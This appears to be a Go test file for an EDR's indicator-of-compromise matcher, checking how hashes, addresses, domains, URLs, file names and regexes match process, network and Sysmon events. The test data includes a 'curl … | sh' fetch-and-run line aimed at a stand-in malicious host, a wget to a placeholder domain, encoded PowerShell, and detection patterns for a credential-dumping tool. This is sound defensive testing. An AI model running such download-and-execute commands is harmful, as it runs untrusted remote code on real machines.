package ioc

import (
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vedette-edr/vedette/internal/detect"
	"github.com/vedette-edr/vedette/internal/detect/expr"
	"github.com/vedette-edr/vedette/internal/event"
	"github.com/vedette-edr/vedette/internal/record"
)

const (
	sha256Bad  = "5b932eab6c67f62f097a3249477ac46d80ddccdc52654f8674060b4ddf638e5d"
	sha1Bad    = "98588b1d1b63747fa6ee406983bf50ad48a2208b"
	md5Bad     = "6d131a7462e568213b44ef69156f10a5"
	imphashBad = "53ae9acf513f6b93672a362615da5fbb"
	tlshBad    = "T1A12500088C838B0A0F0EC3C0ACAB82F3B8228B0308CFA302338C0F0AE2C24F28000008"
	tlshOther  = "T129251210F4C18D0A5F0661C4F64D905B585253A3024F022323E5074CC5601904886D1C"
)

func noon() time.Time { return time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC) }

// open makes a database of indicators.
func open(t testing.TB, is ...Indicator) *Database {
	t.Helper()
	path := filepath.Join(t.TempDir(), "iocs.db")
	b, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, i := range is {
		if err := b.Add(i); err != nil {
			t.Fatalf("%+v: %v", i, err)
		}
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	d, err := Open(path, Options{Now: noon})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = d.Close() })
	return d
}

// hits lists what matches: "type value of field=value".
func hits(d *Database, rec expr.Record) []string {
	var out []string
	for _, m := range d.Match(rec, nil) {
		out = append(out, fmt.Sprintf("%s of %s", m.Rule.Description, m.Fields[0].Name))
	}
	slices.Sort(out)
	return out
}

func foreign(pairs ...string) *record.Record {
	r := &record.Record{}
	for i := 0; i+1 < len(pairs); i += 2 {
		r.Log.Names, r.Log.Values = append(r.Log.Names, pairs[i]), append(r.Log.Values, pairs[i+1])
	}
	return r
}

func all() []Indicator {
	return []Indicator{
		{Type: SHA256, Value: strings.ToUpper(sha256Bad)}, {Type: SHA1, Value: sha1Bad}, {Type: MD5, Value: md5Bad}, {Type: Imphash, Value: imphashBad},
		{Type: TLSH, Value: tlshBad, Distance: 138}, {Type: Address, Value: "203.0.113.7"}, {Type: Address, Value: "2001:db8::7"},
		{Type: Network, Value: "198.51.100.0/24"}, {Type: Network, Value: "2001:db8:5::/48"}, {Type: Network, Value: "192.0.2.128/25"},
		{Type: Domain, Value: "ev-il.Example.org"}, {Type: Hostname, Value: "c2.example.net"}, {Type: Domain, Value: "b\u00fccher.example.com"},
		{Type: URL, Value: "http://Bad.example.com:80/Drop/x.sh?k=1#top"}, {Type: URL, Value: "https://192.0.2.9"},
		{Type: FileName, Value: "EvilTool.exe"}, {Type: FileName, Value: `%APPDATA%\Micro\loader.dll`}, {Type: FileName, Value: "/opt/.x/run"},
		{Type: Regexp, Value: `\\wce\d+\.exe$`}, {Type: Regexp, Value: `-enc [A-Za-z0-9+/]{40,}`},
	}
}

// TestWA21_IndicatorsFire: hash, domain (with hyphen and more than four
// labels), address and URL indicators fire on our events and on those of other
// programs.
func TestWA21_IndicatorsFire(t *testing.T) {
	d := open(t, all()...)
	process := func(p event.Process) *event.Event {
		return &event.Event{Kind: event.ProcessStart, Time: event.At(noon()), Process: &p}
	}
	netEvent := func(n event.Net) *event.Event {
		return &event.Event{Kind: event.NetConnect, Time: event.At(noon()), Net: &n}
	}
	for _, c := range []struct {
		name string
		rec  expr.Record
		want []string
	}{
		{"hash of a program", process(event.Process{Hash: &event.Hash{SHA256: sha256Bad, MD5: md5Bad}}), []string{"md5 " + md5Bad + " of process.hash.md5", "sha256 " + sha256Bad + " of process.hash.sha256"}},
		{"path of a program", process(event.Process{Executable: "/mnt/eviltool.EXE"}), []string{"filename eviltool.exe of process.executable"}},
		{"URL on a command line", process(event.Process{CommandLine: "sh -c 'curl -s https://user@BAD.example.com/Drop/x.sh?k=1|sh'"}), []string{"url http://bad.example.com/Drop/x.sh?k=1 of process.command_line"}},
		{"host of a URL on a command line", process(event.Process{CommandLine: `wget "http://a.b.c.d.ev-il.example.org:8080/"`}), []string{"domain ev-il.example.org of process.command_line"}},
		{"another path on a command line", process(event.Process{CommandLine: "curl http://bad.example.com/drop/x.sh?k=1"}), nil},
		{"regex of a command line", process(event.Process{CommandLine: "powershell -ENC " + strings.Repeat("aB", 30)}), []string{"regex -enc [A-Za-z0-9+/]{40,} of process.command_line"}},
		{"file by a late hash", &event.Event{Kind: event.FileHash, File: &event.File{Path: "/x", Hash: &event.Hash{SHA1: sha1Bad}}}, []string{"sha1 " + sha1Bad + " of file.hash.sha1"}},
		{"file by its path", &event.Event{Kind: event.FileCreate, File: &event.File{Path: "/opt/.x/run"}}, []string{"filename /opt/.x/run of file.path"}},
		{"file by the same path elsewhere", &event.Event{Kind: event.FileCreate, File: &event.File{Path: "/mnt/opt/.x/run"}}, nil},
		{"what a bad program does is told once", &event.Event{Kind: event.FileCreate, File: &event.File{Path: "/tmp/a"}, Process: &event.Process{Hash: &event.Hash{SHA256: sha256Bad}}}, nil},
		{"address", netEvent(event.Net{DestinationIP: netip.MustParseAddr("203.0.113.7")}), []string{"ip 203.0.113.7 of destination.ip"}},
		{"address mapped to IPv6", netEvent(event.Net{DestinationIP: netip.MustParseAddr("::ffff:203.0.113.7")}), []string{"ip 203.0.113.7 of destination.ip"}},
		{"IPv6 address", netEvent(event.Net{SourceIP: netip.MustParseAddr("2001:db8::7")}), []string{"ip 2001:db8::7 of source.ip"}},
		{"networks", netEvent(event.Net{DestinationIP: netip.MustParseAddr("198.51.100.255"), SourceIP: netip.MustParseAddr("192.0.2.129")}), []string{"cidr 192.0.2.128/25 of source.ip", "cidr 198.51.100.0/24 of destination.ip"}},
		{"beside a network", netEvent(event.Net{DestinationIP: netip.MustParseAddr("192.0.2.127")}), nil},
		{"IPv6 network", netEvent(event.Net{DestinationIP: netip.MustParseAddr("2001:db8:5:ffff::1")}), []string{"cidr 2001:db8:5::/48 of destination.ip"}},
		{"domain of a connection", netEvent(event.Net{DestinationDomain: "EV-IL.example.org."}), []string{"domain ev-il.example.org of destination.domain"}},
		{"Sysmon hashes", foreign("EventID", "1", "Hashes", "MD5="+strings.ToUpper(md5Bad)+",SHA256="+strings.Repeat("0", 64)+",IMPHASH="+strings.ToUpper(imphashBad)), []string{"imphash " + imphashBad + " of Hashes", "md5 " + md5Bad + " of Hashes"}},
		{"an imphash is no MD5", foreign("Hashes", "IMPHASH="+md5Bad+",MD5="+imphashBad), nil},
		{"Sysmon DNS query, six labels", foreign("QueryName", "a.b.c.ev-il.example.org"), []string{"domain ev-il.example.org of QueryName"}},
		{"a name that only ends alike", foreign("QueryName", "notev-il.example.org"), nil},
		{"host name", foreign("QueryName", "C2.example.net"), []string{"hostname c2.example.net of QueryName"}},
		{"below a host name", foreign("QueryName", "x.c2.example.net"), nil},
		{"name beyond ASCII", foreign("dns.question.name", "xn--bcher-kva.example.com"), []string{"domain xn--bcher-kva.example.com of dns.question.name"}},
		{"answers of a query", foreign("QueryResults", "type:  5 cdn.ev-il.example.org;::ffff:203.0.113.7;"), []string{"domain ev-il.example.org of QueryResults", "ip 203.0.113.7 of QueryResults"}},
		{"Sysmon connection", foreign("DestinationIp", "203.0.113.7", "SourceIp", "10.0.0.1"), []string{"ip 203.0.113.7 of DestinationIp"}},
		{"address with a port", foreign("winlog.event_data.ClientAddress", "[2001:db8::7]:443"), []string{"ip 2001:db8::7 of winlog.event_data.ClientAddress"}},
		{"URL of a host alone", foreign("url.full", "http://192.0.2.9/#x"), []string{"url https://192.0.2.9/ of url.full"}},
		{"path with backslashes", foreign("TargetFilename", `C:\Users\a\AppData\Roaming\Micro\LOADER.dll`), []string{"filename micro/loader.dll of TargetFilename"}},
		{"regex of a path", foreign("Image", `C:\Windows\Temp\wce64.exe`), []string{`regex \\wce\d+\.exe$ of Image`}},
		{"TLSH at the distance", foreign("file.hash.tlsh", tlshOther), []string{"tlsh " + tlshBad + " of file.hash.tlsh"}},
		{"names that are no place for it", foreign("Computer", "c2.example.net", "Description", md5Bad), nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := hits(d, c.rec); !slices.Equal(got, c.want) {
				t.Errorf("got %q\nwant %q", got, c.want)
			}
		})
	}
}

func TestMatchSaysWhy(t *testing.T) {
	d := open(t,
		Indicator{Type: Domain, Value: "evil.example.org", Source: "list A", Level: "low", Tags: []string{"attack.t1071.001", "c2"}, Note: "seen at a customer", Ref: "uuid-1"},
		Indicator{Type: Domain, Value: "evil.example.org", Source: "list B", Level: "critical", Tags: []string{"c2", "x"}})
	ms := d.Match(foreign("QueryName", "a.evil.example.org"), nil)
	if len(ms) != 1 {
		t.Fatalf("%d matches of one value of two sources", len(ms))
	}
	r := ms[0].Rule
	if r.ID != (Indicator{Type: Domain, Value: "evil.example.org"}).ID() || r.Format != "ioc" || r.Level != "critical" || r.Severity != 5 ||
		!strings.Contains(r.Name, "list A, list B") || !slices.Equal(r.Techniques, []string{"T1071.001"}) {
		t.Errorf("rule %+v", r)
	}
	var got []string
	for _, f := range ms[0].Fields {
		got = append(got, f.Name+"="+f.Value)
	}
	for _, want := range []string{"QueryName=a.evil.example.org", "threat.indicator.type=domain", "threat.indicator.name=evil.example.org",
		"threat.indicator.provider=list A, list B", "tags=c2", "tags=x", "threat.indicator.reference=uuid-1", "threat.indicator.description=seen at a customer"} {
		if !slices.Contains(got, want) {
			t.Errorf("no %q in %q", want, got)
		}
	}
}

func TestExpiry(t *testing.T) {
	d := open(t, Indicator{Type: MD5, Value: md5Bad, Expires: noon()})
	at := func(when time.Time) int {
		r := foreign("MD5", md5Bad)
		r.Time = event.At(when)
		return len(d.Match(r, nil))
	}
	if at(noon().Add(-time.Second)) != 1 || at(noon()) != 0 {
		t.Error("an indicator is in force until it expires, by the time of the record")
	}
	if at(time.Time{}) != 0 {
		t.Error("a record without a time is of now")
	}
}

func TestCheckRefuses(t *testing.T) {
	for _, c := range []struct {
		i     Indicator
		field string
	}{
		{Indicator{Type: MD5, Value: "notahash " + md5Bad}, "value"}, {Indicator{Type: SHA1, Value: md5Bad}, "value"},
		{Indicator{Type: Address, Value: "1.2.3"}, "value"}, {Indicator{Type: Address, Value: "0.0.0.0"}, "value"},
		{Indicator{Type: Network, Value: "10.0.0.0/0"}, "value"}, {Indicator{Type: Domain, Value: "co.uk"}, "value"},
		{Indicator{Type: Domain, Value: "evil"}, "value"}, {Indicator{Type: Domain, Value: "a b.example.org"}, "value"},
		{Indicator{Type: Domain, Value: "1.2.3.4"}, "value"}, {Indicator{Type: URL, Value: "evil.example.org/x"}, "value"},
		{Indicator{Type: FileName, Value: `C:\dir\`}, "value"}, {Indicator{Type: FileName, Value: "*.exe"}, "value"},
		{Indicator{Type: Regexp, Value: "a("}, "value"}, {Indicator{Type: Regexp, Value: ".*"}, "value"}, {Indicator{Type: TLSH, Value: "T1"}, "value"},
		{Indicator{Type: MD5, Value: ""}, "value"}, {Indicator{Type: SHA1, Value: "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709"}, "value"},
		{Indicator{Type: Address, Value: "127.0.0.1"}, "value"}, {Indicator{Type: MD5, Value: md5Bad, Level: "huge"}, "level"},
		{Indicator{Type: MD5, Value: md5Bad, Distance: 3}, "distance"}, {Indicator{Value: "x"}, "type"},
	} {
		_, err := c.i.Check()
		var f *FieldError
		if !errors.As(err, &f) || f.Field != c.field {
			t.Errorf("%s %q: %v, want an error of %s", c.i.Type, c.i.Value, err, c.field)
		}
	}
}

func TestRefang(t *testing.T) {
	for in, want := range map[string]string{
		"hxxps://evil[.]example[.]org/a": "https://evil.example.org/a", "HXXP://192[.]0[.]2[.]1:81/x": "http://192.0.2.1:81/x",
	} {
		if got, err := Canonical(URL, in); err != nil || got != want {
			t.Errorf("%s: %s, %v", in, got, err)
		}
	}
	if got, err := Canonical(Domain, "evil(dot)example[.]org"); err != nil || got != "evil.example.org" {
		t.Errorf("%s, %v", got, err)
	}
}

func TestDamagedFile(t *testing.T) {
	d := open(t, all()...)
	whole, err := os.ReadFile(d.file.Name())
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string][]byte{
		"empty": nil, "cut": whole[:len(whole)-40], "no end": whole[:len(whole)-1],
		"table changed":   change(whole, int(d.foot.Table)+3),
		"summary changed": change(whole, len(whole)-30),
	} {
		path := filepath.Join(t.TempDir(), "x.db")
		if err := os.WriteFile(path, text, 0o600); err != nil {
			t.Fatal(err)
		}
		if _, err := Open(path, Options{}); !errors.Is(err, ErrDamaged) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func change(b []byte, at int) []byte {
	out := slices.Clone(b)
	out[at] ^= 0x55
	return out
}

func TestNoAllocationOnAMiss(t *testing.T) {
	d := open(t, all()...)
	e := &event.Event{Kind: event.ProcessStart, Time: event.At(noon()), Process: &event.Process{
		Executable: "/usr/bin/curl", CommandLine: "curl -s https://www.example.com/index.html", Hash: &event.Hash{SHA256: strings.Repeat("ab", 32), MD5: strings.Repeat("cd", 16)}}}
	r := foreign("Image", `C:\Windows\System32\svchost.exe`, "Hashes", "MD5="+strings.Repeat("0", 32)+",IMPHASH="+strings.Repeat("1", 32), "DestinationIp", "10.1.2.3", "QueryName", "www.example.com", "CommandLine", "svchost -k")
	n := &event.Event{Kind: event.NetConnect, Net: &event.Net{DestinationIP: netip.MustParseAddr("10.0.0.1"), DestinationDomain: "a.b.example.com"}}
	dst := make([]detect.Match, 0, 4)
	for name, rec := range map[string]expr.Record{"execution": e, "foreign": r, "connection": n} {
		if got := testing.AllocsPerRun(200, func() { dst = d.Match(rec, dst[:0]) }); got > 0 && !raced() {
			t.Errorf("%s: %v allocations", name, got)
		}
		if len(dst) != 0 {
			t.Errorf("%s matches", name)
		}
	}
}
